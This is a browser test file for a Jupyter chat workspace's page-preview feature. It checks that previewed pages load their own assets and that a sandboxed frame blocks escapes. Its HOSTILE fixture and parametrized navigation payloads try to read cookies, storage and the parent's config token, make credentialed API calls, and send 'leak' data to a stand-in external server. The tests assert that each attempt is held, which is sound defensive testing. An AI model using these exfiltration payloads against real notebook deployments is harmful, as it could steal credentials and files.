"""A page from a workspace works, and reaches nothing but its own files: tried in a browser."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page, Response

from tests.server.process import JupyterProcess

from .conftest import BASE_URL

# Every page ends by telling the window on top what it found.
WORKING = """<!doctype html>
<link rel="stylesheet" href="css/style.css">
<p id="styled">styled</p>
<img id="image" src="dot.svg">
<script>
  window.found = {};
  const tell = () => top.postMessage({ from: "page", found: window.found }, "*");
</script>
<script src="js/classic.js"></script>
<script type="module">
  import { answer } from "./js/module.mjs";
  found.module = answer;
  found.later = (await import("./js/later.mjs")).default;
  found.data = (await (await fetch("data/größe 1.json")).json()).value;
  await document.getElementById("image").decode();
  found.image = document.getElementById("image").naturalWidth;
  found.colour = getComputedStyle(document.getElementById("styled")).color;
  found.inline = eval("6 * 7");
  tell();
</script>
"""
FILES = {
    "site/index.html": WORKING,
    "site/css/style.css": "#styled { color: rgb(1, 2, 3) }",
    "site/dot.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>',
    "site/js/classic.js": "found.classic = document.currentScript.src.length > 0;",
    "site/js/module.mjs": "export const answer = 42;",
    "site/js/later.mjs": "export default 'later';",
    "site/data/größe 1.json": '{"value": "Grüße"}',
}

# Tries everything that would do harm; "held" is what happened instead.
HOSTILE = """<!doctype html>
<link rel="stylesheet" href="ELSEWHERE/style.css">
<img src="ELSEWHERE/image.png?leak">
<script src="ELSEWHERE/script.js"></script>
<iframe src="ORIGINBASElab"></iframe>
<iframe src="ELSEWHERE/iframe"></iframe>
<object data="ORIGINBASElab"></object>
<form id="form" action="ELSEWHERE/form" method="post"><input name="leak" value="1"></form>
<form id="blank" action="ELSEWHERE/blank" target="_blank"><input name="leak" value="1"></form>
<a id="link" href="ELSEWHERE/link" target="_top">link</a>
<a id="download" href="data:text/plain,x" download="x.txt">download</a>
<script>
const held = {};
const attempts = {
  cookie: () => document.cookie,
  localStorage: () => localStorage.length,
  sessionStorage: () => sessionStorage.length,
  indexedDB: () => new Promise((yes, no) => {
    const request = indexedDB.open("x");
    request.onsuccess = () => yes("open");
    request.onerror = () => no(request.error);
  }),
  caches: () => caches.keys(),
  serviceWorker: () => navigator.serviceWorker.register("worker.js"),
  topDocument: () => top.document.body.innerHTML,
  parentDocument: () => parent.document.body.innerHTML,
  topToken: () => top.document.getElementById("jupyter-config-data").textContent,
  topLocation: () => top.location.href,
  frameElement: () => window.frameElement.outerHTML,
  contents: () => fetch("ORIGINBASEapi/contents", { credentials: "include" }),
  chats: () => fetch("ORIGINBASEapi/chatide/chats", { credentials: "include" }),
  providers: () => fetch("../../../../providers"),
  opaque: () => fetch("ORIGINBASEapi/kernels", {
    method: "POST", mode: "no-cors", credentials: "include", body: "{}" }),
  xhr: () => new Promise((yes, no) => {
    const request = new XMLHttpRequest();
    request.onload = () => yes(request.status);
    request.onerror = () => no(new Error("blocked"));
    request.open("GET", "ORIGINBASEapi/contents");
    request.send();
  }),
  socket: () => new Promise((yes, no) => {
    const socket = new WebSocket("ORIGINBASEapi/events/subscribe".replace("http", "ws"));
    socket.onopen = () => yes("open");
    socket.onerror = () => no(new Error("blocked"));
  }),
  eventSource: () => new Promise((yes, no) => {
    const source = new EventSource("ELSEWHERE/events");
    source.onopen = () => yes("open");
    source.onerror = () => { source.close(); no(new Error("blocked")); };
  }),
  elsewhere: () => fetch("ELSEWHERE/fetch", { mode: "no-cors" }),
  worker: () => new Promise((yes, no) => {
    const code = `fetch("ELSEWHERE/worker", { mode: "no-cors" })
      .then(() => postMessage("sent"), () => postMessage(""))`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    worker.onmessage = event => event.data ? yes(event.data) : no(new Error("blocked"));
    worker.onerror = () => no(new Error("blocked"));
  }),
  open: () => { if (window.open("ELSEWHERE/open") === null) throw new Error("blocked"); },
  topNavigation: () => { top.location = "ELSEWHERE/top"; },
  parentNavigation: () => { parent.location = "ELSEWHERE/parent"; },
  openTop: () => { window.open("ELSEWHERE/open-top", "_top"); throw new Error("nothing told"); },
};
addEventListener("load", async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { held[name] = `REACHED ${await attempt()}`; }
    catch (error) { held[name] = "held"; }
  }
  navigator.sendBeacon("ELSEWHERE/beacon", "leak");
  document.getElementById("form").submit();
  document.getElementById("blank").submit();
  document.getElementById("link").click();
  document.getElementById("download").click();
  top.postMessage({ from: "page", found: held }, "*");
});
</script>
"""


class Elsewhere:
    """Another site, which notes who comes."""

    def __init__(self) -> None:
        visits = self.visits = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                visits.append(self.path)
                body = b"elsewhere"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()
                self.wfile.write(body)

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self._server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        self._thread = threading.Thread(target=self._server.serve_forever)
        self._thread.start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()
        self._thread.join()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    site = Elsewhere()
    yield site
    site.close()


@pytest.fixture
def chat(lab: JupyterProcess) -> str:
    return str(lab.api("POST", "chats", {"title": "Pages"})["id"])


def put(lab: JupyterProcess, chat: str, files: dict[str, str]) -> None:
    """Put files into a chat's workspace, as its code would."""
    lab.api("GET", f"chats/{chat}/workspace")
    for path, text in files.items():
        place = lab.data_dir / "chats" / chat / "workspace" / path
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text, encoding="utf-8")


def open_preview(lab: JupyterProcess, chat: str, path: str) -> str:
    """The full address of the page's outer frame."""
    return lab.origin + str(lab.api("POST", f"chats/{chat}/previews", {"path": path})["url"])


def show_in_lab(page: Page, lab: JupyterProcess, url: str) -> None:
    """Show a preview in an iframe of Lab's own page, and keep what it tells."""
    page.goto(lab.page())
    page.wait_for_selector("#jupyter-config-data", state="attached")
    show(page, url)


def show(page: Page, url: str) -> None:
    """Show a preview in an iframe of the page that is open, and keep what it tells."""
    page.evaluate(
        """url => {
            localStorage.setItem("secret", "of Lab");
            window.told = [];
            addEventListener("message", event => {
                if (event.data?.from === "page") told.push(event.data.found);
            });
            const frame = document.createElement("iframe");
            frame.src = url;
            frame.style = "position: fixed; inset: 0; width: 600px; height: 400px; z-index: 9999";
            document.body.append(frame);
        }""",
        url,
    )


def what_it_told(page: Page) -> dict[str, Any]:
    page.wait_for_function("window.told.length > 0")
    found: dict[str, Any] = page.evaluate("window.told[0]")
    return found


def test_a_pages_own_files_work(page: Page, lab: JupyterProcess, chat: str) -> None:
    put(lab, chat, FILES)
    show_in_lab(page, lab, open_preview(lab, chat, "site/index.html"))
    assert what_it_told(page) == {
        "classic": True,
        "module": 42,
        "later": "later",
        "data": "Grüße",
        "image": 7,
        "colour": "rgb(1, 2, 3)",
        "inline": 42,
    }


def test_a_hostile_page_reaches_nothing(
    page: Page, lab: JupyterProcess, chat: str, elsewhere: Elsewhere
) -> None:
    kernels = lab.api("GET", "../kernels")
    hostile = HOSTILE.replace("ELSEWHERE", elsewhere.url).replace("ORIGINBASE", lab.url)
    put(lab, chat, {"page.html": hostile, "worker.js": ""})
    pages: list[Page] = []
    downloads: list[Any] = []
    page.context.on("page", lambda opened: pages.append(opened))
    page.on("download", lambda download: downloads.append(download))
    show_in_lab(page, lab, open_preview(lab, chat, "page.html"))

    found = what_it_told(page)
    page.wait_for_timeout(500)  # for what takes effect later
    reached = {name: what for name, what in found.items() if what != "held"}
    # These two raise nothing where they are ignored; that nothing came of them is seen below.
    reached.pop("topNavigation", None)
    reached.pop("parentNavigation", None)
    assert reached == {}
    assert elsewhere.visits == []
    assert pages == [] and downloads == []
    assert page.url.startswith(f"{lab.url}lab")
    assert page.evaluate("localStorage.getItem('secret')") == "of Lab"
    assert lab.api("GET", "../kernels") == kernels


@pytest.mark.parametrize(
    "leave",
    [
        "<script>location.href = 'TARGET'</script>",
        "<script>location.replace('TARGET')</script>",
        "<meta http-equiv='refresh' content='0; url=TARGET'>",
        "<a id='a' href='TARGET'>x</a><script>a.click()</script>",
        "<a id='a' href='TARGET' target='_parent'>x</a><script>a.click()</script>",
        "<script>open('TARGET', '_self')</script>",
        "<script>document.location = 'javascript:parent.location=\"TARGET\"'</script>",
    ],
)
@pytest.mark.parametrize("target", ["elsewhere", "lab"])
def test_a_page_cannot_navigate_away(
    page: Page, lab: JupyterProcess, chat: str, elsewhere: Elsewhere, leave: str, target: str
) -> None:
    address = f"{elsewhere.url}/leak" if target == "elsewhere" else f"{lab.url}tree"
    telling = "<script>top.postMessage({ from: 'page', found: { here: true } }, '*')</script>"
    put(lab, chat, {"leave.html": "<!doctype html>" + telling + leave.replace("TARGET", address)})
    page.goto(f"{lab.url}login")
    here = page.url
    show(page, open_preview(lab, chat, "leave.html"))
    assert what_it_told(page) == {"here": True}
    page.wait_for_timeout(500)  # for what takes effect later
    assert elsewhere.visits == []
    assert all(frame.url != address for frame in page.frames)
    assert page.url == here


def test_a_page_may_link_to_its_neighbours(page: Page, lab: JupyterProcess, chat: str) -> None:
    telling = "<script>top.postMessage({ from: 'page', found: { at: 'second' } }, '*')</script>"
    first = "<!doctype html><a id='a' href='b/'>x</a><script>a.click()</script>"
    put(lab, chat, {"first.html": first, "b/index.html": telling})
    show_in_lab(page, lab, open_preview(lab, chat, "first.html"))
    assert what_it_told(page) == {"at": "second"}


def test_another_site_cannot_frame_a_page(
    page: Page, lab: JupyterProcess, chat: str, elsewhere: Elsewhere
) -> None:
    put(lab, chat, {"page.html": "<!doctype html>mine"})
    url = open_preview(lab, chat, "page.html")
    page.goto(elsewhere.url.replace("127.0.0.1", "localhost"))
    page.evaluate(
        """url => document.body.append(Object.assign(document.createElement("iframe"), {src: url}))
        """,
        url,
    )
    page.wait_for_timeout(500)
    assert not any("/preview/" in frame.url and _text(frame) == "mine" for frame in page.frames)


def _text(frame: Any) -> str:
    try:
        return str(frame.evaluate("document.body.innerText"))
    except Exception:
        return ""


def test_a_page_opened_on_its_own_is_put_into_its_frame_and_gets_no_cookie(
    page: Page, lab: JupyterProcess, chat: str
) -> None:
    put(lab, chat, {"page.html": "<!doctype html><p>mine"})
    url = open_preview(lab, chat, "page.html")
    answers: list[Response] = []
    page.on("response", lambda answer: answers.append(answer))
    page.goto(url.replace("/frame/", "/files/"))
    assert page.url == url
    assert page.frame_locator("iframe").locator("p").inner_text() == "mine"
    assert [answer.status for answer in answers if "/preview/" in answer.url] == [302, 200, 200]
    assert page.context.cookies() == []
    for answer in answers:
        assert "set-cookie" not in answer.headers
    frame = next(frame for frame in page.frames if "/files/" in frame.url)
    assert frame.evaluate("origin") == "null"


def test_the_outer_frame_stands_below_the_base_url(lab: JupyterProcess, chat: str) -> None:
    put(lab, chat, {"page.html": "x"})
    url = lab.api("POST", f"chats/{chat}/previews", {"path": "page.html"})["url"]
    assert url.startswith(f"{BASE_URL}api/chatide/preview/")
    assert Path(url).name == "page.html"
